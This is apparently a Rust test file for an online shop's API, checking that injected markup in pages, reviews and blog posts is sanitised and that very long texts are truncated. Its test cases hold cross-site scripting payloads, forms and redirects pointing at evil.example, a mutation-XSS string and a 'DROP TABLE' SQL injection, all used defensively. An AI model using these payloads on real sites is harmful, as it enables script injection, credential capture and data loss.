use rstest::rstest;
use serde_json::Value;

use super::{PATHS, change, json};
use crate::support::TestShop;

fn overwrite(shop: &TestShop, text: &str) {
    let text = text.replace('\'', "''");
    change(
        shop,
        "vape",
        &format!(
            "UPDATE PAGE_CONTENT SET IQWPP_TEXT = '{text}', IQWPP_TITLE = '{text}';
             UPDATE PAGE_CONTENT SET IQWPP_IMAGE = '{text}' WHERE IQWPP_IMAGE IS NOT NULL;
             UPDATE WAREHOUSES SET WH_Web_Description = '{text}';
             UPDATE REVIEWS SET AUTHOR_NAME = '{text}', REVIEW_TEXT = '{text}';
             UPDATE BLOG_POSTS SET POST_TITLE = '{text}', POST_AUTHOR = '{text}', POST_EXCERPT = '{text}', POST_HTML = '{text}', POST_IMAGE = '{text}'"
        ),
    );
}

async fn paths(shop: &TestShop) -> Vec<String> {
    let mut paths: Vec<_> = PATHS.iter().map(|path| (*path).to_owned()).collect();
    let posts = json(shop, "vape", "/api/v1/blog-posts").await;
    for post in posts["items"].as_array().unwrap() {
        paths.push(format!(
            "/api/v1/blog-posts/{}",
            post["slug"].as_str().unwrap()
        ));
    }
    paths
}

fn texts(name: &str, value: &Value, found: &mut Vec<(String, String)>) {
    match value {
        Value::String(text) => found.push((name.to_owned(), text.clone())),
        Value::Array(values) => values.iter().for_each(|value| texts(name, value, found)),
        Value::Object(members) => members
            .iter()
            .for_each(|(name, value)| texts(name, value, found)),
        Value::Null | Value::Bool(_) | Value::Number(_) => {}
    }
}

fn is_html(name: &str) -> bool {
    name == "html" || name.ends_with("Html")
}

fn is_harmless(tag: &str) -> bool {
    let name = tag.trim_start_matches('/');
    let plain = [
        "a", "b", "div", "p", "span", "table", "tbody", "td", "tr", "i", "ul", "li",
    ];
    plain.contains(&name) || name == "a rel=\"noopener noreferrer nofollow\""
}

/// [CON-06]
#[rstest]
#[case::script("Oak<script>alert(1)</script>")]
#[case::script_in_pieces("Oak<scr<script>ipt>alert(1)</scr</script>ipt>")]
#[case::handlers(
    "<p onclick=alert(1) ONMOUSEOVER='alert(1)'>Oak</p><b/onfocus=alert(1) autofocus>ash</b>"
)]
#[case::styles(
    "<p style=\"position:fixed;inset:0\" class=x id=root>Oak</p><style>*{display:none}</style><link rel=stylesheet href=//evil.example>"
)]
#[case::links("<a href=\"java&#9;script:alert(1)\">Oak</a><a href=data:text/html,x>ash</a>")]
#[case::loading(
    "Oak<img src=x onerror=alert(1)><iframe src=//evil.example></iframe><svg onload=alert(1)></svg><video src=//evil.example></video>"
)]
#[case::submitting(
    "<form action=//evil.example><input name=card><button formaction=//evil.example>Oak</button></form>"
)]
#[case::redirecting(
    "<base href=//evil.example/><meta http-equiv=refresh content=\"0;url=//evil.example\">Oak"
)]
#[case::broken_markup("<p><b>Oak</p></b><table><td>ash<tr></i></div></p><a href=\"x")]
#[case::half_a_tag("Oak<img src=x onerror=alert(1) title='")]
#[case::half_a_comment("Oak<!-- <script>alert(1)</script>")]
#[case::mutation(
    "Oak<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">"
)]
#[case::sql("Oak'; DROP TABLE PAGE_CONTENT; --")]
#[case::json("Oak\"},\"titles\":[\"x\"]}")]
#[actix_web::test]
async fn hostile_markup_is_removed(#[case] text: &str) {
    let shop = TestShop::start().await;
    let paths = paths(&shop).await;
    overwrite(&shop, text);
    let mut html = 0;
    for path in paths {
        let mut found = Vec::new();
        texts("", &json(&shop, "vape", &path).await, &mut found);
        for (name, text) in found {
            if is_html(&name) {
                html += 1;
                assert!(text.contains("Oak"), "{path} {name}: {text}");
                for tag in text.split('<').skip(1) {
                    let tag = tag.split('>').next().unwrap();
                    assert!(is_harmless(tag), "{path} {name}: {text}");
                }
            } else if name.ends_with("Url") {
                let is_own =
                    text.starts_with("/pictures/") && !text.contains(['<', '\'', '"', ' ']);
                assert!(is_own, "{path} {name}: {text}");
            } else {
                assert!(
                    !text.contains("<script") && !text.contains("onerror"),
                    "{path} {name}: {text}"
                );
            }
        }
    }
    assert!(html > 20, "{html} texts were looked at");
}

fn long(piece: &str, bytes: usize) -> String {
    piece.repeat(bytes / piece.len() + 1)
}

/// [CON-06]
#[rstest]
#[case::a_megabyte("<p>Oak and <b>ash</b>.</p>", 1_000_000)]
#[case::more_than_is_read("<p>Oak and <b>ash</b>.</p>", 2_000_000)]
#[case::characters_of_several_bytes("δρυς\u{1f4a1}", 2_000_000)]
#[actix_web::test]
async fn long_texts_are_shown_or_truncated(#[case] piece: &str, #[case] bytes: usize) {
    let shop = TestShop::start_with("[cache]\nwait_ms = 60000").await;
    let text = long(piece, bytes);
    let sql = format!(
        "UPDATE PAGE_CONTENT SET IQWPP_TEXT = '{text}', IQWPP_TITLE = '{text}' WHERE IQWPP_POSITION_DESC IN ('our vision', 'about title 1')"
    );
    change(&shop, "vape", &sql);
    let page = json(&shop, "vape", "/api/v1/pages/about").await;
    let html = page["visionHtml"].as_str().unwrap();
    let most = bytes.min(1 << 20);
    assert!(
        (most - 200..=most + 200).contains(&html.len()),
        "{}",
        html.len()
    );
    let whole = html.matches(piece).count();
    assert!(whole >= most / piece.len() - 1, "{whole}");
    assert!(page["titles"][0].as_str().unwrap().chars().count() <= 500);
}
